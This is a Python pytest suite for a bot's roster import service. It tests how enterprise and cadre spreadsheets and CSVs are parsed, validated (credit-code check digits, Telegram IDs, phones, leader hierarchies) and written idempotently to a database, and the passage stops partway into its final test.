"""Roster import: the samples in every form, idempotent re-import, and every validation rule.

All on a real in-memory database; error-case files are written into tmp_path with openpyxl/csv.
"""

from __future__ import annotations

import csv
import importlib.util
import io
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

import bot
from bot.clock import FixedClock
from bot.services.roster.files import decode_csv, read_roster_file
from bot.services.roster.rows import cell_text, normalize_name, split_ids
from bot.services.roster.service import (
    CREDIT_ALPHABET,
    RosterError,
    RosterProblem,
    RosterReport,
    RosterService,
    credit_check_char,
    credit_code_error,
)
from storage.db import Database
from storage.repos.cadres import CadreRepo
from storage.repos.enterprises import EnterpriseRepo
from storage.unit import Repositories

SAMPLES = Path(bot.__file__).parent / "samples"
E_HEAD = [
    "企业名称",
    "统一社会信用代码",
    "行业",
    "网格",
    "包联干部",
    "备用干部",
    "联系人TelegramID",
]
C_HEAD = ["姓名", "电话", "角色", "上级", "TelegramID"]


def _load_generator() -> ModuleType:
    spec = importlib.util.spec_from_file_location("make_samples", SAMPLES / "make_samples.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


GEN = _load_generator()


def code(body: str) -> str:
    """A valid credit code from a 17-character body."""
    return body + credit_check_char(body)


GOOD_A = code("91320699MA1X00001")
GOOD_B = code("91320699MA1X00002")


# -- helpers -----------------------------------------------------------------------------------


def write_csv(path: Path, rows: Sequence[Sequence[object]], encoding: str = "utf-8") -> Path:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, sheets: dict[str, Sequence[Sequence[object]]]) -> Path:
    workbook = Workbook()
    for index, (title, rows) in enumerate(sheets.items()):
        ws = workbook.active if index == 0 else workbook.create_sheet()
        ws.title = title
        for row in rows:
            ws.append(list(row))
    workbook.save(path)
    return path


def cadres_csv(tmp_path: Path, *rows: Sequence[object], name: str = "cadres.csv") -> Path:
    return write_csv(tmp_path / name, [C_HEAD, *rows])


def enterprises_csv(tmp_path: Path, *rows: Sequence[object], name: str = "ent.csv") -> Path:
    return write_csv(tmp_path / name, [E_HEAD, *rows])


BASE_CADRES: list[list[object]] = [
    ["领导甲", "13900000001", "分管领导", "", ""],
    ["干部乙", "13900000002", "干部", "领导甲", ""],
    ["干部丙", "13900000003", "干部", "领导甲", ""],
]


async def dump(db: Database) -> dict[str, list[tuple[Any, ...]]]:
    async with db.transaction():
        return {
            table: [tuple(r) for r in await db.fetchall(f"SELECT * FROM {table} ORDER BY 1")]
            for table in ("cadres", "enterprises", "assignments", "contacts")
        }


async def counts(db: Database) -> dict[str, int]:
    return {table: len(rows) for table, rows in (await dump(db)).items()}


async def refused(
    service: RosterService, paths: Sequence[Path], locale: str = "zh_CN"
) -> list[RosterProblem]:
    with pytest.raises(RosterError) as caught:
        await service.import_files(paths, locale=locale)
    assert caught.value.problems, "a RosterError always lists its problems"
    return caught.value.problems


def cells(problems: Sequence[RosterProblem]) -> set[tuple[int | None, str | None]]:
    return {(p.row, p.column) for p in problems}


@pytest.fixture
def service(db: Database, clock: FixedClock) -> RosterService:
    return RosterService(Repositories(db), clock)


# -- the samples -------------------------------------------------------------------------------

SAMPLE_FORMS = {
    "separate-xlsx": ["enterprises.xlsx", "cadres.xlsx"],
    "two-sheet-workbook": ["roster.xlsx"],
    "csv-gbk-and-utf8": ["enterprises.csv", "cadres.csv"],
}


def test_samples_are_what_the_generator_makes(tmp_path: Path) -> None:
    GEN.write_samples(tmp_path)
    for name in ("enterprises.xlsx", "cadres.xlsx", "roster.xlsx", "cadres.csv", "enterprises.csv"):
        assert (tmp_path / name).read_bytes() == (SAMPLES / name).read_bytes(), name
    assert (SAMPLES / "README.md").is_file()


def test_sample_csv_encodings() -> None:
    gbk = (SAMPLES / "cadres.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        gbk.decode("utf-8")
    assert "沈若琳" in gbk.decode("gbk")
    assert (SAMPLES / "enterprises.csv").read_bytes().decode("utf-8-sig").startswith("企业名称")


@pytest.mark.parametrize("form", list(SAMPLE_FORMS))
async def test_import_samples(service: RosterService, db: Database, form: str) -> None:
    report = await service.import_files([SAMPLES / n for n in SAMPLE_FORMS[form]])

    assert (report.enterprises_created, report.cadres_created) == (30, 13)
    assert report.assignments_set == 30
    assert report.contacts_bound == 6
    assert report.unassigned == []
    assert await counts(db) == {"cadres": 13, "enterprises": 30, "assignments": 30, "contacts": 6}
    async with db.transaction():
        rows = await db.fetchall(
            "SELECT e.name, e.credit_code, e.industry, e.grid, p.name, b.name FROM enterprises e"
            " JOIN assignments a ON a.enterprise_id = e.id"
            " LEFT JOIN cadres p ON p.id = a.primary_cadre_id"
            " LEFT JOIN cadres b ON b.id = a.backup_cadre_id ORDER BY e.id"
        )
        got_enterprises = sorted(tuple(r) for r in rows)
        cadre_rows = await db.fetchall(
            "SELECT c.name, c.phone, c.role, l.name, c.telegram_id FROM cadres c"
            " LEFT JOIN cadres l ON l.id = c.leader_id"
        )
        got_cadres = sorted(tuple(r) for r in cadre_rows)
        contacts = await db.fetchall(
            "SELECT c.telegram_id, e.name, c.source FROM contacts c"
            " JOIN enterprises e ON e.id = c.enterprise_id"
        )
    expected_enterprises = sorted(
        (name, cc, industry, grid, primary, backup or None)
        for name, cc, industry, grid, primary, backup, _ in GEN.enterprise_rows()
    )
    assert got_enterprises == expected_enterprises
    roles = {"管理员": "admin", "分管领导": "leader", "干部": "cadre"}
    expected_cadres = sorted(
        (name, phone, roles[role], leader or None, int(tg) if tg else None)
        for name, phone, role, leader, tg in GEN.cadre_rows()
    )
    assert got_cadres == expected_cadres
    expected_contacts = {
        (tg, GEN.ENTERPRISES[i][0], "roster") for i, ids in GEN.CONTACTS.items() for tg in ids
    }
    assert {tuple(r) for r in contacts} == expected_contacts
    assert any("30" in line for line in report.lines())


async def test_reimport_in_every_form_changes_nothing(
    service: RosterService, db: Database, clock: FixedClock
) -> None:
    await service.import_files([SAMPLES / "roster.xlsx"])
    before = await dump(db)
    for form in SAMPLE_FORMS.values():
        clock.advance(timedelta(days=1))
        report = await service.import_files([SAMPLES / n for n in form])
        assert (report.enterprises_created, report.enterprises_updated) == (0, 0)
        assert (report.cadres_created, report.cadres_updated) == (0, 0)
        assert (report.enterprises_unchanged, report.cadres_unchanged) == (30, 13)
        assert (report.assignments_set, report.contacts_bound) == (0, 0)
        # Not even updated_at moves: unchanged rows are not written.
        assert await dump(db) == before


async def test_reimport_updates_changed_rows_in_place(
    service: RosterService, db: Database, tmp_path: Path, clock: FixedClock
) -> None:
    await service.import_files([SAMPLES / "roster.xlsx"])
    clock.advance(timedelta(hours=1))
    first = GEN.enterprise_rows()[0]
    changed = [first[0], first[1], "高端装备", "二网格", "王晓峰", "", "7100000099"]
    report = await service.import_files([enterprises_csv(tmp_path, changed)])
    assert (report.enterprises_created, report.enterprises_updated) == (0, 1)
    assert (report.assignments_set, report.contacts_bound) == (1, 1)
    assert await counts(db) == {"cadres": 13, "enterprises": 30, "assignments": 30, "contacts": 7}
    async with db.transaction():
        row = await db.fetchone(
            "SELECT e.industry, e.grid, p.name, a.backup_cadre_id FROM enterprises e"
            " JOIN assignments a ON a.enterprise_id = e.id JOIN cadres p"
            " ON p.id = a.primary_cadre_id WHERE e.name = ?",
            (first[0],),
        )
    assert tuple(row or ()) == ("高端装备", "二网格", "王晓峰", None)


async def test_dry_run_writes_nothing(service: RosterService, db: Database) -> None:
    report = await service.import_files([SAMPLES / "roster.xlsx"], dry_run=True)
    assert (report.enterprises_created, report.cadres_created, report.dry_run) == (30, 13, True)
    assert await counts(db) == {"cadres": 0, "enterprises": 0, "assignments": 0, "contacts": 0}


# -- all or nothing ----------------------------------------------------------------------------


async def test_bad_file_lists_every_bad_cell_and_changes_nothing(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    await service.import_files([SAMPLES / "roster.xlsx"])
    before = await dump(db)
    bad = write_xlsx(
        tmp_path / "bad.xlsx",
        {
            "企业": [
                E_HEAD,
                ["新企业一", GOOD_A, "化工", "一网格", "陈志远", "", ""],  # fine
                ["新企业二", "91320699MA1X0000X", "化工", "一网格", "无名氏", "", ""],
                [None, None, None, None, None, None, None],  # blank: skipped, still counted
                ["新企业三", GOOD_B, "化工", "一网格", "陈志远", "陈志远", "abc"],
                ["", "", "化工", "", "", "", ""],
                ["新企业一", "", "", "", "陈志远", "", ""],
            ],
            "干部": [
                C_HEAD,
                ["新干部甲", "139-00", "科长", "陈志远", "12345678901234567"],
                ["新干部乙", "13900000009", "干部", "查无此人", ""],
            ],
        },
    )
    problems = await refused(service, [bad])
    assert cells(problems) == {
        (3, "统一社会信用代码"),
        (3, "包联干部"),
        (5, "备用干部"),
        (5, "联系人TelegramID"),
        (6, "企业名称"),
        (7, "企业名称"),
        (2, "电话"),
        (2, "角色"),
        (2, "上级"),
        (2, "TelegramID"),
        (3, "上级"),
    }
    assert all(p.file == str(bad) and p.sheet in ("企业", "干部") for p in problems)
    # Ordered by sheet then row, so the list reads like the workbook.
    sheets = [p.sheet for p in problems]
    assert sheets == sorted(sheets, key=lambda sheet: ["企业", "干部"].index(sheet or ""))
    duplicate = next(p for p in problems if p.row == 7)
    assert "第 2 行" in duplicate.message  # names the other row too
    assert await dump(db) == before


async def test_error_lines_render_location_and_message(
    service: RosterService, tmp_path: Path
) -> None:
    path = cadres_csv(tmp_path, ["某人", "12", "", "", ""])
    with pytest.raises(RosterError) as caught:
        await service.import_files([path])
    lines = caught.value.lines()
    assert lines[0].startswith("导入失败：发现 1 个问题")
    assert lines[1].startswith(f"{path} 第 2 行「电话」列：电话「12」格式不对")
    assert caught.value.lines("en")[1].startswith(f"{path} row 2, column “电话”: ")
    assert caught.value.key == "roster.failed" and caught.value.params == {"count": 1}


async def test_unknown_locale_is_refused(service: RosterService) -> None:
    with pytest.raises(ValueError, match="locale"):
        await service.import_files([SAMPLES / "roster.xlsx"], locale="fr")


# -- names, roles, leaders ---------------------------------------------------------------------


async def test_name_required(service: RosterService, tmp_path: Path) -> None:
    problems = await refused(service, [cadres_csv(tmp_path, ["", "13900000001", "", "", ""])])
    assert cells(problems) == {(2, "姓名")}
    assert "姓名为空" in problems[0].message


async def test_duplicate_name_across_files_names_both_rows(
    service: RosterService, tmp_path: Path
) -> None:
    one = cadres_csv(tmp_path, *BASE_CADRES, name="a.csv")
    two = cadres_csv(tmp_path, ["干部乙", "", "", "", ""], name="b.csv")
    problems = await refused(service, [one, two])
    assert [(p.file, p.row, p.column) for p in problems] == [(str(two), 2, "姓名")]
    assert "干部乙" in problems[0].message and f"{one} 第 3 行" in problems[0].message


async def test_duplicate_enterprise_name(service: RosterService, tmp_path: Path) -> None:
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(
        tmp_path,
        ["甲公司", "", "", "", "干部乙", "", ""],
        ["乙公司", "", "", "", "干部乙", "", ""],
        ["甲公司", "", "", "", "干部丙", "", ""],
    )
    problems = await refused(service, [cad, ent])
    assert cells(problems) == {(4, "企业名称")}
    assert "第 2 行" in problems[0].message


async def test_names_are_normalised(service: RosterService, db: Database, tmp_path: Path) -> None:
    # Two-character names padded to line up ("干部  乙") must still match.
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(tmp_path, ["  丁  公司 ", "", "", "", "干部  乙", "\u200b干部丙", ""])
    await service.import_files([cad, ent])
    async with db.transaction():
        assert await db.fetchval("SELECT name FROM enterprises") == "丁公司"
    assert normalize_name(" John   Smith ") == "John Smith"


@pytest.mark.parametrize(
    ("text", "role"),
    [
        ("", "cadre"),
        ("干部", "cadre"),
        ("包联干部", "cadre"),
        ("Cadre", "cadre"),
        ("领导", "leader"),
        ("分管领导", "leader"),
        ("LEADER", "leader"),
        ("管理员", "admin"),
        ("admin", "admin"),
    ],
)
async def test_roles_accepted(
    service: RosterService, db: Database, tmp_path: Path, text: str, role: str
) -> None:
    await service.import_files([cadres_csv(tmp_path, ["某人", "", text, "", ""])])
    async with db.transaction():
        assert await db.fetchval("SELECT role FROM cadres WHERE name = '某人'") == role


async def test_role_invalid_lists_accepted_values(service: RosterService, tmp_path: Path) -> None:
    problems = await refused(service, [cadres_csv(tmp_path, ["某人", "", "科长", "", ""])])
    assert cells(problems) == {(2, "角色")}
    for accepted in ("干部", "包联干部", "分管领导", "领导", "管理员", "cadre", "leader", "admin"):
        assert accepted in problems[0].message


@pytest.mark.parametrize(
    ("rows", "needle"),
    [
        ([["甲", "", "干部", "甲", ""]], "自己的上级"),
        ([["甲", "", "干部", "查无此人", ""]], "查无此人"),
        ([["乙", "", "干部", "", ""], ["甲", "", "干部", "乙", ""]], "必须是分管领导或管理员"),
        (
            [["甲", "", "分管领导", "乙", ""], ["乙", "", "管理员", "甲", ""]],
            "循环",
        ),
    ],
    ids=["self", "unknown", "not-a-leader", "cycle"],
)
async def test_leader_rules(
    service: RosterService, tmp_path: Path, rows: list[list[object]], needle: str
) -> None:
    problems = await refused(service, [cadres_csv(tmp_path, *rows)])
    assert {p.column for p in problems} == {"上级"}
    assert all(needle in p.message for p in problems)


async def test_leader_and_cadres_may_come_from_the_database(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    await service.import_files([cadres_csv(tmp_path, *BASE_CADRES, name="first.csv")])
    await service.import_files(
        [
            cadres_csv(tmp_path, ["干部丁", "", "", "领导甲", ""], name="second.csv"),
            enterprises_csv(tmp_path, ["戊公司", "", "", "", "干部乙", "干部丁", ""]),
        ]
    )
    async with db.transaction():
        leader = await db.fetchval(
            "SELECT l.name FROM cadres c JOIN cadres l ON l.id = c.leader_id"
            " WHERE c.name = '干部丁'"
        )
    assert leader == "领导甲"


async def test_leader_whose_role_the_import_demotes_is_refused(
    service: RosterService, tmp_path: Path
) -> None:
    await service.import_files([cadres_csv(tmp_path, *BASE_CADRES, name="first.csv")])
    demote = cadres_csv(
        tmp_path, ["领导甲", "", "干部", "", ""], ["干部乙", "", "", "领导甲", ""], name="b.csv"
    )
    problems = await refused(service, [demote])
    assert cells(problems) == {(3, "上级")}


async def test_columns_absent_keep_values_and_blank_cells_clear_them(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    await service.import_files([cadres_csv(tmp_path, *BASE_CADRES, name="first.csv")])
    # Only name and phone: role and leader stay as they are.
    await service.import_files(
        [write_csv(tmp_path / "phones.csv", [["姓名", "电话"], ["干部乙", "13911112222"]])]
    )
    async with db.transaction():
        row = await db.fetchone(
            "SELECT c.phone, c.role, l.name FROM cadres c LEFT JOIN cadres l"
            " ON l.id = c.leader_id WHERE c.name = '干部乙'"
        )
    assert tuple(row or ()) == ("13911112222", "cadre", "领导甲")
    # A blank leader cell clears the leader.
    await service.import_files([cadres_csv(tmp_path, ["干部乙", "", "", "", ""], name="c.csv")])
    async with db.transaction():
        assert await db.fetchval("SELECT leader_id FROM cadres WHERE name = '干部乙'") is None


# -- telegram ids, phones ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "needle"),
    [
        ("12abc", "不超过 15 位的正整数"),
        ("0", "正整数"),
        ("-5", "正整数"),
        ("1234567890123456", "15 位"),
        ("7.1E+09", "科学计数法"),
        ("@zhangsan", "用户名"),
        ("zhang_san", "用户名"),
        ("12.5", "正整数"),
    ],
)
async def test_telegram_id_invalid(
    service: RosterService, tmp_path: Path, value: str, needle: str
) -> None:
    problems = await refused(service, [cadres_csv(tmp_path, ["某人", "", "", "", value])])
    assert cells(problems) == {(2, "TelegramID")}
    assert needle in problems[0].message


async def test_telegram_ids_from_floats_and_text(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    path = write_xlsx(
        tmp_path / "floats.xlsx",
        {
            "干部": [
                ["姓名", "电话", "TelegramID"],
                ["甲", 13912345678.0, 123456789.0],
                ["乙", 13912345679, "987654321.0"],
            ]
        },
    )
    await service.import_files([path])
    async with db.transaction():
        rows = await db.fetchall("SELECT name, phone, telegram_id FROM cadres ORDER BY name")
    assert sorted(tuple(r) for r in rows) == [
        ("乙", "13912345679", 987654321),
        ("甲", "13912345678", 123456789),
    ]


async def test_telegram_id_two_cadres(service: RosterService, tmp_path: Path) -> None:
    path = cadres_csv(tmp_path, ["甲", "", "", "", "555"], ["乙", "", "", "", "555"])
    problems = await refused(service, [path])
    assert cells(problems) == {(3, "TelegramID")}
    assert "甲" in problems[0].message


async def test_telegram_id_of_a_database_cadre(service: RosterService, tmp_path: Path) -> None:
    await service.import_files([cadres_csv(tmp_path, ["甲", "", "", "", "555"], name="a.csv")])
    problems = await refused(service, [cadres_csv(tmp_path, ["乙", "", "", "", "555"])])
    assert cells(problems) == {(2, "TelegramID")}
    assert "系统中已有的记录" in problems[0].message


async def test_telegram_ids_may_swap_within_one_import(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    await service.import_files(
        [cadres_csv(tmp_path, ["甲", "", "", "", "1"], ["乙", "", "", "", "2"], name="a.csv")]
    )
    await service.import_files(
        [cadres_csv(tmp_path, ["甲", "", "", "", "2"], ["乙", "", "", "", "1"], name="b.csv")]
    )
    async with db.transaction():
        rows = await db.fetchall("SELECT name, telegram_id FROM cadres ORDER BY name")
    assert sorted(tuple(r) for r in rows) == [("乙", 1), ("甲", 2)]


async def test_telegram_id_cadre_and_contact(service: RosterService, tmp_path: Path) -> None:
    cad = cadres_csv(tmp_path, *BASE_CADRES, ["丁", "", "", "", "7100000001"])
    ent = enterprises_csv(tmp_path, ["甲公司", "", "", "", "干部乙", "", "7100000001"])
    problems = await refused(service, [cad, ent])
    assert cells(problems) == {(2, "联系人TelegramID")}
    assert "丁" in problems[0].message


async def test_cadre_telegram_id_already_a_database_contact(
    service: RosterService, tmp_path: Path
) -> None:
    await service.import_files(
        [
            cadres_csv(tmp_path, *BASE_CADRES, name="a.csv"),
            enterprises_csv(tmp_path, ["甲公司", "", "", "", "干部乙", "", "777"]),
        ]
    )
    problems = await refused(service, [cadres_csv(tmp_path, ["丁", "", "", "", "777"])])
    assert cells(problems) == {(2, "TelegramID")}
    assert "甲公司" in problems[0].message


async def test_contact_on_two_enterprises(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    """One person may be listed under several enterprises; a re-import sets exactly those."""
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(
        tmp_path,
        ["甲公司", "", "", "", "干部乙", "", "11, 12"],
        ["乙公司", "", "", "", "干部乙", "", "13；12"],
    )
    report = await service.import_files([cad, ent])
    assert report.contacts_bound == 4
    enterprises = EnterpriseRepo(db)
    async with db.transaction():
        assert [e.name for e in await enterprises.contact_enterprises(12)] == ["甲公司", "乙公司"]
    moved = enterprises_csv(
        tmp_path,
        ["甲公司", "", "", "", "干部乙", "", "11"],
        ["乙公司", "", "", "", "干部乙", "", "13；12"],
    )
    await service.import_files([cad, moved])
    async with db.transaction():
        assert [e.name for e in await enterprises.contact_enterprises(12)] == ["乙公司"]


async def test_contact_separators(service: RosterService, db: Database, tmp_path: Path) -> None:
    assert split_ids("1;2；3,4，5 6\t7、8") == [str(i) for i in range(1, 9)]
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(tmp_path, ["甲公司", "", "", "", "干部乙", "", "11;12；13，14 15,11"])
    report = await service.import_files([cad, ent])
    assert report.contacts_bound == 5
    async with db.transaction():
        ids = [r[0] for r in await db.fetchall("SELECT telegram_id FROM contacts ORDER BY 1")]
    assert ids == [11, 12, 13, 14, 15]


@pytest.mark.parametrize(
    ("phone", "stored"),
    [
        ("13912345678", "13912345678"),
        ("+86 139 1234 5678", "+86 139 1234 5678"),
        ("0513-8123 4567", "0513-8123 4567"),
        ("1234567", "1234567"),
        ("１３９１２３４５６７８", "13912345678"),  # full-width digits, as an IME types them
        ("＋８６ １３９ １２３４ ５６７８", "+86 139 1234 5678"),
    ],
)
async def test_phone_valid(
    service: RosterService, db: Database, tmp_path: Path, phone: str, stored: str
) -> None:
    await service.import_files([cadres_csv(tmp_path, ["某人", phone, "", "", ""])])
    async with db.transaction():
        cadre = await CadreRepo(db).cadre_by_name("某人")
    assert cadre is not None and cadre.phone == stored


@pytest.mark.parametrize(
    "phone", ["123456", "139123456789012345678", "139-1234-abcd", "(0513)8123"]
)
async def test_phone_invalid(service: RosterService, tmp_path: Path, phone: str) -> None:
    problems = await refused(service, [cadres_csv(tmp_path, ["某人", phone, "", "", ""])])
    assert cells(problems) == {(2, "电话")}
    assert "7 到 20" in problems[0].message


# -- credit codes ------------------------------------------------------------------------------


def test_sample_credit_codes_pass_the_independent_check() -> None:
    for row in GEN.enterprise_rows():
        assert credit_code_error(row[1]) is None, row[1]
        assert GEN.uscc(row[1][:17]) == row[1]


@given(st.text(alphabet=CREDIT_ALPHABET, min_size=17, max_size=17), st.data())
def test_check_digit_catches_every_single_substitution(body: str, data: st.DataObject) -> None:
    full = body + credit_check_char(body)
    assert credit_code_error(full) is None
    assert GEN.uscc(body) == full
    position = data.draw(st.integers(0, 17))
    other = data.draw(st.sampled_from(CREDIT_ALPHABET.replace(full[position], "")))
    typo = full[:position] + other + full[position + 1 :]
    assert credit_code_error(typo) is not None


@pytest.mark.parametrize(
    ("value", "needle"),
    [
        ("91320699MA1X0000", "应为 18 位，这里有 16 位"),
        ("91320699MA1X0000O" + "1", "第 17 位「O」不是合法字符"),
        (GOOD_A[:17] + ("0" if GOOD_A[17] != "0" else "1"), f"应为「{GOOD_A[17]}」"),
    ],
    ids=["length", "character", "check-digit"],
)
async def test_credit_code_invalid(
    service: RosterService, tmp_path: Path, value: str, needle: str
) -> None:
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(tmp_path, ["甲公司", value, "", "", "干部乙", "", ""])
    problems = await refused(service, [cad, ent])
    assert cells(problems) == {(2, "统一社会信用代码")}
    assert "统一社会信用代码" in problems[0].message and needle in problems[0].message


async def test_credit_code_stored_as_number(service: RosterService, tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "num.xlsx",
        {"企业": [["企业名称", "统一社会信用代码"], ["甲公司", 913206995831000021]]},
    )
    problems = await refused(service, [path])
    assert cells(problems) == {(2, "统一社会信用代码")}
    assert "文本" in problems[0].message


async def test_credit_code_lowercase_is_accepted(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    await service.import_files(
        [write_csv(tmp_path / "e.csv", [["企业名称", "信用代码"], ["甲公司", GOOD_A.lower()]])]
    )
    async with db.transaction():
        assert await db.fetchval("SELECT credit_code FROM enterprises") == GOOD_A


async def test_credit_code_unique(service: RosterService, tmp_path: Path) -> None:
    head = ["企业名称", "统一社会信用代码"]
    await service.import_files([write_csv(tmp_path / "a.csv", [head, ["甲公司", GOOD_A]])])
    problems = await refused(
        service, [write_csv(tmp_path / "b.csv", [head, ["乙公司", GOOD_B], ["丙公司", GOOD_B]])]
    )
    assert cells(problems) == {(3, "统一社会信用代码")}
    problems = await refused(service, [write_csv(tmp_path / "c.csv", [head, ["乙公司", GOOD_A]])])
    assert cells(problems) == {(2, "统一社会信用代码")} and "甲公司" in problems[0].message


async def test_credit_codes_may_swap_within_one_import(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    head = ["企业名称", "统一社会信用代码"]
    await service.import_files(
        [write_csv(tmp_path / "a.csv", [head, ["甲公司", GOOD_A], ["乙公司", GOOD_B]])]
    )
    await service.import_files(
        [write_csv(tmp_path / "b.csv", [head, ["甲公司", GOOD_B], ["乙公司", GOOD_A]])]
    )
    async with db.transaction():
        rows = await db.fetchall("SELECT name, credit_code FROM enterprises ORDER BY name")
    assert dict(tuple(r) for r in rows) == {"甲公司": GOOD_B, "乙公司": GOOD_A}


# -- assignments -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("primary", "backup", "column", "needle"),
    [
        ("查无此人", "", "包联干部", "包联干部「查无此人」"),
        ("干部乙", "查无此人", "备用干部", "备用干部「查无此人」"),
        ("干部乙", "干部乙", "备用干部", "都是「干部乙」"),
        ("", "干部乙", "备用干部", "没有包联干部"),
    ],
    ids=["unknown-primary", "unknown-backup", "backup-is-primary", "backup-without-primary"],
)
async def test_assignment_rules(
    service: RosterService, tmp_path: Path, primary: str, backup: str, column: str, needle: str
) -> None:
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(tmp_path, ["甲公司", "", "", "", primary, backup, ""])
    problems = await refused(service, [cad, ent])
    assert cells(problems) == {(2, column)}
    assert needle in problems[0].message


async def test_enterprise_without_primary_is_reported(
    service: RosterService, tmp_path: Path
) -> None:
    cad = cadres_csv(tmp_path, *BASE_CADRES)
    ent = enterprises_csv(tmp_path, ["甲公司", "", "", "", "", "", ""])
    report = await service.import_files([cad, ent])
    assert report.unassigned == ["甲公司"] and report.assignments_set == 0
    assert any("甲公司" in line for line in report.lines())


# -- files and headers -------------------------------------------------------------------------


async def test_file_problems_are_reported_not_raised(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    corrupt = tmp_path / "corrupt.xlsx"
    corrupt.write_bytes(b"PK\x03\x04 definitely not a workbook")
    undecodable = tmp_path / "bad.csv"
    undecodable.write_bytes("姓名\n".encode() + b"\x80\x80\xff\n")
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    odd = tmp_path / "list.txt"
    odd.write_text("姓名\n甲\n", encoding="utf-8")
    old = tmp_path / "old.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0")
    paths = [tmp_path / "missing.xlsx", corrupt, undecodable, empty, odd, old, tmp_path]
    problems = await refused(service, paths)
    by_file = {p.file: p.message for p in problems}
    assert len(problems) == len(paths)
    assert "找不到" in by_file[str(tmp_path / "missing.xlsx")]
    assert "无法读取这个 Excel 文件" in by_file[str(corrupt)]
    assert "编码" in by_file[str(undecodable)]
    assert "没有任何数据" in by_file[str(empty)]
    assert "「.txt」" in by_file[str(odd)]
    assert "另存为" in by_file[str(old)]
    assert "文件夹" in by_file[str(tmp_path)]
    assert all(p.row is None and p.sheet is None for p in problems)
    assert await counts(db) == {"cadres": 0, "enterprises": 0, "assignments": 0, "contacts": 0}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
async def test_csv_encodings(
    service: RosterService, db: Database, tmp_path: Path, encoding: str
) -> None:
    await service.import_files([cadres_csv(tmp_path, ["张三", "", "分管领导", "", ""])])
    path = write_csv(tmp_path / "x.csv", [C_HEAD, ["李四", "", "", "张三", ""]], encoding)
    await service.import_files([path])
    async with db.transaction():
        assert await db.fetchval("SELECT count(*) FROM cadres WHERE name = '李四'") == 1


def test_decode_csv_rejects_binary() -> None:
    assert decode_csv(b"\x00\x01\x02") is None
    assert decode_csv("姓名".encode("gbk")) == "姓名"


async def test_unrecognised_table(service: RosterService, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", [["编号", "备注"], ["1", "a"]])
    problems = await refused(service, [path])
    assert cells(problems) == {(1, None)}
    assert "编号" in problems[0].message and "企业名称" in problems[0].message
    assert "姓名" in problems[0].message


async def test_missing_name_column(service: RosterService, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", [["电话", "角色"], ["13900000001", "干部"]])
    problems = await refused(service, [path])
    assert "干部表缺少必填的名称列" in problems[0].message and "姓名" in problems[0].message


async def test_unknown_column_suggests_the_closest_header(
    service: RosterService, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "x.csv", [["企业名称", "包连干部", "行业"], ["甲公司", "某", "x"]])
    problems = await refused(service, [path])
    assert cells(problems) == {(1, "包连干部")}
    assert "是不是想写「包联干部」" in problems[0].message


async def test_cadre_column_in_enterprise_table(service: RosterService, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", [["企业名称", "行业", "手机号"], ["甲公司", "x", "1"]])
    problems = await refused(service, [path])
    assert cells(problems) == {(1, "手机号")}
    assert "干部表" in problems[0].message


async def test_duplicate_column_and_data_without_header(
    service: RosterService, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "x.csv", [["姓名", "电话", "手机"], ["甲", "13900000001", "2", "x"]]
    )
    problems = await refused(service, [path])
    assert cells(problems) == {(1, "手机"), (1, "D")}


async def test_english_headers_and_sheet_order(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    path = write_xlsx(
        tmp_path / "en.xlsx",
        {
            "Companies": [
                [" Name ", "Credit Code", "INDUSTRY", "grid", "Primary_Cadre", "backup_cadre"],
                ["Acme Ltd", GOOD_A, "Chemicals", "Grid 1", "Li Si", ""],
            ],
            "Notes": [],  # an empty sheet is ignored
            "Staff": [
                ["name", "phone", "role", "leader", "Telegram ID"],
                [None, None, None, None, None],
                ["Li Si", "+86 139 0000 0000", "cadre", "Boss", 42],
                ["Boss", "", "leader", "", ""],
            ],
        },
    )
    report = await service.import_files([path])
    assert (report.enterprises_created, report.cadres_created) == (1, 2)
    async with db.transaction():
        telegram = await db.fetchval("SELECT telegram_id FROM cadres WHERE name = 'Li Si'")
    assert telegram == 42


async def test_row_numbers_count_blank_rows(service: RosterService, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "x.csv", [C_HEAD, [], ["", "", "", "", ""], ["甲", "", "x", "", ""]]
    )
    problems = await refused(service, [path])
    assert cells(problems) == {(4, "角色")}


async def test_unreadable_table_suppresses_unknown_name_cascades(
    service: RosterService, tmp_path: Path
) -> None:
    ent = enterprises_csv(tmp_path, ["甲公司", "", "", "", "干部乙", "", ""])
    problems = await refused(service, [ent, tmp_path / "cadres-missing.xlsx"])
    assert len(problems) == 1 and "找不到" in problems[0].message


async def test_same_file_twice_is_read_once(service: RosterService) -> None:
